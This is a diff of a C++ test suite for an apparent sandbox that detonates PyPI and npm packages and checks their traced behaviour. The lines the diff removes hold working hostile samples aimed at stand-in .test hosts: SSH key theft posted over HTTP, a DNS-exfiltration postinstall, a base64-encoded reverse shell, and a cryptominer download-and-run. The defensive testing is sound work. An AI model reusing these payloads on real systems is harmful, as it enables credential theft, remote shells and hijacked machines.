@@ -128,16 +128,7 @@ std::string* BehaviorReal::room_error_ = nullptr;
 
 TEST_F(BehaviorReal, a_setup_py_that_reads_the_decoy_key_and_posts_it_is_seen_with_the_key_in_the_post) {
   BATLEHUB_NEED_BWRAP();
-  const std::string pre =
-      "import os, urllib.request\n"
-      "key = open(os.path.expanduser('~/.ssh/id_rsa')).read()\n"
-      "try:\n"
-      "    urllib.request.urlopen(urllib.request.Request('http://collect.exfil.test/k', data=key.encode(),"
-      " method='POST'), timeout=5)\n"
-      "except Exception as e:\n"
-      "    print('post failed', e)\n";
-  json t = detonate("pypi", behavior_sdist("keysend", {file("setup.py", behavior_setup_py("keysend", pre)),
-                                                       file("keysend/__init__.py", "")}));
+  json t = detonate("pypi", hostile_archive("a setup.py that reads the decoy key"));
   ASSERT_TRUE(t.contains("events"));
   auto decoys = events(t, "decoy-open", "install");
   ASSERT_FALSE(decoys.empty()) << t.dump(1);
@@ -161,9 +152,7 @@ TEST_F(BehaviorReal, a_setup_py_that_reads_the_decoy_key_and_posts_it_is_seen_wi
 
 TEST_F(BehaviorReal, a_postinstall_that_resolves_a_name_carrying_the_user_is_seen_asking_it) {
   BATLEHUB_NEED_BWRAP();
-  const std::string pj = R"({"name":"hostname-dns","version":"1.0.0","scripts":{"postinstall":
-    "node -e \"require('dns').lookup(require('os').userInfo().username + '.' + process.env.npm_package_name + '.dns.exfil.test', () => {})\""}})";
-  json t = detonate("npm", behavior_npm_package({file("package.json", pj), file("index.js", "module.exports = 1;\n")}));
+  json t = detonate("npm", hostile_archive("a postinstall that resolves a name"));
   ASSERT_TRUE(t.contains("events"));
   std::string asked;
   bool identity = false;
@@ -184,17 +173,8 @@ TEST_F(BehaviorReal, a_postinstall_that_resolves_a_name_carrying_the_user_is_see
 TEST_F(BehaviorReal, an_import_that_execs_decoded_text_opening_a_shell_on_a_connection_is_seen_and_bounded) {
   BATLEHUB_NEED_BWRAP();
   // The reverse shell, base64'd: it connects, says hello, and hands the connection to sh -i,
-  // which waits for commands until the import's time is up.
-  const std::string payload =
-      "import socket, subprocess, os\n"
-      "s = socket.create_connection(('c2.exfil.test', 4444))\n"
-      "s.sendall(b'hello from ' + os.uname().nodename.encode())\n"
-      "subprocess.call(['/bin/sh', '-i'], stdin=s.fileno(), stdout=s.fileno(), stderr=s.fileno())\n";
-  const std::string init = "import base64\nexec(base64.b64decode('" + wire::base64_encode(payload) + "'))\n";
-  json t = detonate(
-      "pypi",
-      behavior_sdist("revsh", {file("setup.py", behavior_setup_py("revsh", "")), file("revsh/__init__.py", init)}),
-      "4000");
+  // which waits for commands until the import's time is up (hostile_packages.h).
+  json t = detonate("pypi", hostile_archive("an import-time exec of decoded text"), "4000");
   ASSERT_TRUE(t.contains("events"));
   EXPECT_TRUE(events(t, "connect", "install").empty()) << "nothing connects at install";
   auto connects = events(t, "connect", "import");
@@ -282,18 +262,7 @@ TEST_F(BehaviorReal, a_function_that_sends_the_decoy_key_when_called_is_seen_in_
 
 TEST_F(BehaviorReal, a_download_made_executable_and_run_is_seen_as_a_program_started_from_a_written_file) {
   BATLEHUB_NEED_BWRAP();
-  const std::string pre =
-      "import os, subprocess, urllib.request\n"
-      "path = os.path.join(os.environ['TMPDIR'], 'xmrig')\n"
-      "urllib.request.urlretrieve('http://dl.exfil.test/xmrig', path)\n"
-      "os.chmod(path, 0o755)\n"
-      "try:\n"
-      "    subprocess.Popen([path, '-o', 'pool.exfil.test:3333', '-u', '44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7ot',"
-      " '--donate-level', '1'])\n"
-      "except OSError as e:\n"
-      "    print('run failed', e)\n";
-  json t = detonate("pypi", behavior_sdist("miner", {file("setup.py", behavior_setup_py("miner", pre)),
-                                                     file("miner/__init__.py", "")}));
+  json t = detonate("pypi", hostile_archive("a miner downloaded"));
   ASSERT_TRUE(t.contains("events"));
   bool fetched = false;
   for (const json& e : events(t, "stream", "install"))
@@ -312,12 +281,7 @@ TEST_F(BehaviorReal, a_download_made_executable_and_run_is_seen_as_a_program_sta
 
 TEST_F(BehaviorReal, a_native_package_whose_build_fails_without_a_compiler_does_nothing_the_trace_would_hold) {
   BATLEHUB_NEED_BWRAP();
-  json t = detonate(
-      "pypi", behavior_sdist("fastext",
-                             {file("setup.py", behavior_setup_py("fastext", "from setuptools import Extension",
-                                                                 ", ext_modules=[Extension('fastext._c', "
-                                                                 "['fastext/_c.c'])]")),
-                              file("fastext/__init__.py", ""), file("fastext/_c.c", "int f(void) { return 1; }\n")}));
+  json t = detonate("pypi", hostile_archive("a native package whose build fails"));
   ASSERT_TRUE(t.contains("phases"));
   const json& install = t.at("phases")[1];
   EXPECT_EQ(install.at("phase"), "install");
